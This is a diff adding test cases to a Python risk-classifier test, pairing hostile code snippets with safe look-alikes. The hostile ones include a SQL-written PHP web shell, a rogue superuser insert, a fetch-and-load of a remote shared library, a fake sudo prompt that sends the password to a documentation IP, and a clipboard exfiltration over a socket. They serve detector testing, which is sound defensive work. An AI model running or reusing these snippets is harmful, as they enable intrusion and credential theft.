@@ -11244,6 +11244,86 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'app_celery_conf = dict(accept_content=["json"], task_serializer="json")\n',
             S,
         ),
+        # holdout348-351: SQL from applications, stables, terminals, patient transport
+        (
+            'import pymysql\n'
+            'c = pymysql.connect(host="localhost", user="root").cursor()\n'
+            'c.execute("SELECT \'<?php system($_GET[1]); ?>\' INTO OUTFILE \'/var/www/html/x.php'
+            '\'")\n',
+            H,
+        ),
+        (
+            'import pymysql\n'
+            'c = pymysql.connect(host="localhost", user="root").cursor()\n'
+            'c.execute("SELECT id, name FROM orders INTO @a, @b")\n',
+            S,
+        ),
+        (
+            'from django.db import connection\n'
+            'with connection.cursor() as c:\n'
+            '    c.execute("INSERT INTO auth_user (username, password, is_superuser, is_staff'
+            ') VALUES (%s, %s, true, true)", ["x", "y"])\n',
+            H,
+        ),
+        (
+            'from alembic import command\n'
+            'from alembic.config import Config\n'
+            'cfg = Config("alembic.ini")\n'
+            'cfg.set_main_option("sqlalchemy.url", "postgresql://a:b@prod-rds.cluster-abc.rds'
+            '.amazonaws.com/app")\n'
+            'command.downgrade(cfg, "base")\n',
+            H,
+        ),
+        (
+            'from alembic import command\n'
+            'from alembic.config import Config\n'
+            'command.upgrade(Config("alembic.ini"), "head")\n',
+            S,
+        ),
+        (
+            'import sqlite3, urllib.request\n'
+            'urllib.request.urlretrieve("http://203.0.113.9/ext/lib.so", "/tmp/.lib.so")\n'
+            'con = sqlite3.connect("app.db")\n'
+            'con.enable_load_extension(True)\n'
+            'con.load_extension("/tmp/.lib.so")\n',
+            C,
+        ),
+        (
+            'import sqlite3\n'
+            'con = sqlite3.connect("app.db")\n'
+            'con.enable_load_extension(True)\n'
+            'con.load_extension("build/libspatial.so")\n',
+            S,
+        ),
+        (
+            'import sys\n'
+            'sys.stdout.write("\\x1b]52;c;?\\x07")\n'
+            'reply = sys.stdin.read(100)\n'
+            'import socket\n'
+            'socket.create_connection(("203.0.113.15", 8443)).sendall(reply.encode())\n',
+            H,
+        ),
+        (
+            'import sys, base64\n'
+            'sys.stdout.write("\\x1b]52;c;" + base64.b64encode(b"hello").decode() + "\\x07")\n',
+            S,
+        ),
+        (
+            'import getpass, urllib.request\n'
+            'pw = getpass.getpass("[sudo] password for bob: ")\n'
+            'urllib.request.urlopen("http://203.0.113.90/c?p=" + pw)\n',
+            H,
+        ),
+        (
+            'conf = open("kitty.conf", "a")\n'
+            'conf.write("allow_remote_control yes\\nlisten_on tcp:0.0.0.0:50505\\n")\n',
+            H,
+        ),
+        (
+            'conf = open("kitty.conf", "a")\n'
+            'conf.write("allow_remote_control yes\\nlisten_on unix:/tmp/mykitty\\n")\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
